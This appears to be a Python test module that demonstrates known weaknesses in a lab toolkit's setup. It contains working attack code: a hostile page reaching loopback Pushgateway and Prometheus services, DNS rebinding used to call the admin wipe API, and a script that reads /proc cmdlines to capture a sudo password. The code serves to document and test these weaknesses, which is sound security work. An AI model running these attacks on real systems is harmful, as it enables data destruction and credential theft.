"""Demonstrations of the attacks that, as docs/security.md says, the toolkit does not prevent.

They use ports that are forwarded to a browser's machine, with a real Chromium, a real Pushgateway and
Prometheus on a lab host, and a page of another origin; and a password for sudo.
"""

import re
import shlex
import socket
import subprocess
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

import browsing
from attackers import Attacker, free_port
from browsing import Chrome
from expectations import INSTALLED
from gateways import restart
from labhost import Host, PyinfraCommand

pytestmark = [
    pytest.mark.browser,
    pytest.mark.lab_host(packages=INSTALLED),
    pytest.mark.xdist_group("security facts"),  # one host and one browser
]

REPOSITORY = Path(__file__).parents[1]

FETCH = """
const [url, options, done] = arguments;
fetch(url, options).then(
  async (answer) => done([answer.type, answer.status, await answer.text()]),
  (error) => done([String(error), 0, ""]));
"""

SEND_FORM = """
const form = document.createElement("form");
Object.assign(form, {method: "POST", enctype: "text/plain", action: arguments[0]});
document.body.append(form);
form.submit();
"""


# In two pieces, so that the search does not find this line.
WATCH_PROCESSES = """
import glob, time
found, end = b"", time.monotonic() + 40
while not found and time.monotonic() < end:
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                words = file.read()
        except OSError:
            continue
        if b"open" + b"-sesame" in words:
            found = words
print(found)
"""


@pytest.fixture(scope="module")
def gateway(module_host: Host) -> Callable[[], str]:
    """Return a function that asks a Pushgateway on loopback, with the admin API, for its groups."""
    restart(module_host, "--web.listen-address=127.0.0.1:9091 --web.enable-admin-api")
    return lambda: module_host.run("curl -s http://127.0.0.1:9091/api/v1/metrics").stdout


def test_a_page_of_another_origin_pushes_to_a_known_port_and_reads_both_servers(
    module_host: Host, gateway: Callable[[], str], browser: Chrome
) -> None:
    prometheus, pushgateway, page = free_port(), free_port(), free_port()
    with forwarded(module_host, prometheus, 9090), forwarded(module_host, pushgateway, 9091):
        with served(page):
            browser.get(f"http://attacker.localhost:{page}/")
        at = f"http://127.0.0.1:{pushgateway}"
        group = f"{at}/metrics/job/by_a_web_page"
        fetch(browser, group, "POST", mode="no-cors", body="from_a_web_page 1\n")
        assert "from_a_web_page" in gateway()
        for url, method in ((group, "PUT"), (group, "DELETE"), (f"{at}/api/v1/admin/wipe", "PUT")):
            assert "Failed to fetch" in fetch(browser, url, method)[0], (url, method)
        assert '"by_a_web_page"' in fetch(browser, f"{at}/api/v1/metrics", "GET")[2]
        config = f"http://127.0.0.1:{prometheus}/api/v1/status/config"
        assert "scrape_configs" in fetch(browser, config, "GET")[2]
    assert "from_a_web_page" in gateway()


def test_a_page_from_the_internet_sends_a_form_that_makes_a_group(
    module_host: Host, gateway: Callable[[], str], tmp_path: Path
) -> None:
    # Chromium blocks requests of fetch() from this page to loopback; a form is a navigation.
    pushgateway, page = free_port(), free_port()
    from_outside = f"--ip-address-space-overrides=127.0.0.1:{page}=public"
    with ExitStack() as stack:
        stack.enter_context(served(page))
        stack.enter_context(forwarded(module_host, pushgateway, 9091))
        driver = browsing.launch(tmp_path / "chromium", from_outside)
        stack.callback(driver.quit)
        driver.get(f"http://attacker.localhost:{page}/")
        driver.execute_script(SEND_FORM, f"http://127.0.0.1:{pushgateway}/metrics/job/by_a_form")
        browsing.until(lambda: '"by_a_form"' in gateway(), "the form's push")


def test_a_page_wipes_once_its_name_leads_to_the_pushgateway(
    module_host: Host, gateway: Callable[[], str], browser: Chrome
) -> None:
    # After DNS rebinding: the same name and port, so the same origin, but another server.
    module_host.run("echo a 1 | curl -s --data-binary @- http://127.0.0.1:9091/metrics/job/wiped")
    port = free_port()
    with served(port):
        browser.get(f"http://attacker.localhost:{port}/")
    with forwarded(module_host, port, 9091):
        url = f"http://attacker.localhost:{port}/api/v1/admin/wipe"
        assert fetch(browser, url, "PUT")[1] == 202
        browsing.until(lambda: '"wiped"' not in gateway(), "the wipe")


@pytest.mark.usefixtures("gateway")
def test_make_lab_forwards_to_an_address_that_nobody_can_guess(
    module_host: Host, browser: Chrome
) -> None:
    said, again = (what_make_lab_says(module_host) for _ in range(2))
    [tunnel] = re.findall(r"Its web pages: *(ssh .*)", said)
    pages = re.findall(r"http://(127\.\d+\.\d+\.\d+:\d+) ", said)
    assert len(set(pages) | set(re.findall(r"http://(127\S+) ", again))) == 4
    with running(shlex.split(tunnel), pages):
        browser.get(f"http://{pages[1]}")
        assert browser.title == "Prometheus Pushgateway"
        browser.get(f"http://{pages[0]}")
        assert "Prometheus" in browser.title
        assert not any(answers("127.0.0.1", int(each.rpartition(":")[2])) for each in pages)


def test_a_password_for_sudo_can_be_read_by_local_users(
    module_host: Host, pyinfra_command: PyinfraCommand
) -> None:
    # --same-sudo-password and pyinfra's question for one set this; it is pyinfra's own command line.
    data = {"_sudo": True, "_sudo_password": "open-sesame"}
    command = f"python3 -c {shlex.quote(WATCH_PROCESSES)}"
    with ThreadPoolExecutor(1) as pool:
        seen = pool.submit(Attacker(module_host).run, command)
        while not seen.done():
            pyinfra_command.run(module_host, "-y", "exec", "--", "true", data=data, user="trainer")
    assert "PYINFRA_SUDO_PASSWORD=open-sesame" in seen.result()


def what_make_lab_says(host: Host) -> str:
    """Return the output of the end of `make lab`, for a host that runs."""
    labhost = f"echo {shlex.quote(shlex.join(host.ssh_command()))}; :"
    skipped = [word for target in ("lab-packages", ".venv/locked") for word in ("-o", target)]
    command = ["make", "-s", *skipped, "lab", f"LABHOST={labhost}", "BOOTSTRAP=:"]
    run = subprocess.run(command, cwd=REPOSITORY, capture_output=True, text=True, check=True)
    return run.stdout


def fetch(chrome: Chrome, url: str, method: str, **options: str) -> tuple[str, int, str]:
    """Let the page send a request; return the type of the answer or the error, the status, the body."""
    kind, status, body = chrome.execute_async_script(FETCH, url, {"method": method, **options})
    return kind, status, body


@contextmanager
def forwarded(host: Host, port: int, to: int) -> Iterator[None]:
    """Forward a port of 127.0.0.1 to a port of a lab host's loopback."""
    with running(
        [*host.ssh_command(), "-N", "-L", f"{port}:localhost:{to}"], [f"127.0.0.1:{port}"]
    ):
        yield


@contextmanager
def running(command: list[str], listens: list[str]) -> Iterator[None]:
    """Run a process that listens at these addresses, each as HOST:PORT."""
    with subprocess.Popen(command) as process:
        try:
            for each in listens:
                address, _, port = each.rpartition(":")
                browsing.until(partial(answers, address, int(port)), f"the tunnel at {each}")
            yield
        finally:
            process.terminate()


@contextmanager
def served(port: int) -> Iterator[None]:
    """Serve an attacker's page at a port of 127.0.0.1."""
    with Server(("127.0.0.1", port), Page) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        yield
        server.shutdown()
        thread.join()


class Server(ThreadingHTTPServer):
    """Closes all its connections at its end, so that it gets no later request."""

    daemon_threads = False


class Page(BaseHTTPRequestHandler):
    """An empty page."""

    timeout = 0.2  # seconds; Chromium opens connections in advance

    def do_GET(self) -> None:
        """Send the page."""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!DOCTYPE html><title>Attacker</title><link rel=icon href=data:,>")

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


def answers(address: str, port: int) -> bool:
    with socket.socket() as probe:
        return probe.connect_ex((address, port)) == 0
